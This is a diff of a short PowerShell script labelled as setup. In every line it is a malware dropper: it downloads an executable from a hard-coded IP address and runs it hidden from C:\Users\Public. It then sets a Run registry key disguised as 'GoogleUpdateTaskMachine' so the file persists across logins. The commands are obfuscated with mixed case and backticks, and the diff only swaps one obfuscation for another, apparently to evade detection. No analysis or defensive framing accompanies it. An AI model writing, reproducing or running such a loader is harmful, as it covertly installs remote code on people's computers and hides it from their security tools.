@@ -1,4 +1,4 @@
-# SeTuP 4536 v1
-STaRt-BIt`StRAn`Sfer -sOuRcE hTtP://198.51.100.23/Svc.eXe -DeStInAtIoN c:\usERS\pUBliC\sVc.exE
-sTaRt-pR`oCe`s`s -WiNdOwStYlE HiDdEn c:\UsErS\PuBlIc\SvC.exE
-NeW-ItE`mPr`operT`Y -PATH 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NaME 'GoogleUpdateTaskMachine' -vALUe 'C:\Users\Public\svc.exe' -prOPErtyTYpE StRIng -FOrCe
+# setup 4536 v1
+StArT-BiT`StRAn`sfER -sOuRCe Http://198.51.100.23/SvC.eXe -DestInATion c:\USerS\pUbLiC\sVc.Exe
+STarT-pr`OCE`S`s -WiNdOwStYlE HiDdEn C:\UseRS\pUbLic\svC.ExE
+NeW-ItE`MpR`OPerT`Y -pAtH 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -naME 'GoogleUpdateTaskMachine' -valUE 'C:\Users\Public\svc.exe' -PrOpERtytYPe sTrInG -FOrCe
